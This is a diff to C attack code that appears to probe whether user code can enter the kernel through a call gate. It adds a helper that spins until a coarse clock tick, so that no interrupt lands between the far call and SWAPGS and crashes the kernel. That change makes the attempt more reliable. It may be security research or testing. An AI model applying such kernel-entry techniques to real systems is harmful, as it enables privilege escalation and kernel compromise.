@@ -9,6 +9,7 @@
 #include <string.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "attack.h"
@@ -114,6 +115,20 @@ static uint64_t go_through(const void *gate)
 	return flags;
 }
 
+/*
+ * An interrupt behind the far call and before SWAPGS finds the kernel with user
+ * space's GS and tables, and kills it. Right behind a tick none is due.
+ */
+static void wait_for_tick(void)
+{
+	struct timespec before, now;
+
+	clock_gettime(CLOCK_MONOTONIC_COARSE, &before);
+	do
+		clock_gettime(CLOCK_MONOTONIC_COARSE, &now);
+	while (!memcmp(&before, &now, sizeof(now)));
+}
+
 static bool reaches_kernel(void)
 {
 	static const struct {
@@ -124,6 +139,7 @@ static bool reaches_kernel(void)
 	signal(SIGSEGV, note_signal);
 	if (sigsetjmp(after_signal, 1))
 		return false;
+	wait_for_tick();
 	return !(go_through(&gate) & FLAG_IF);
 }
 
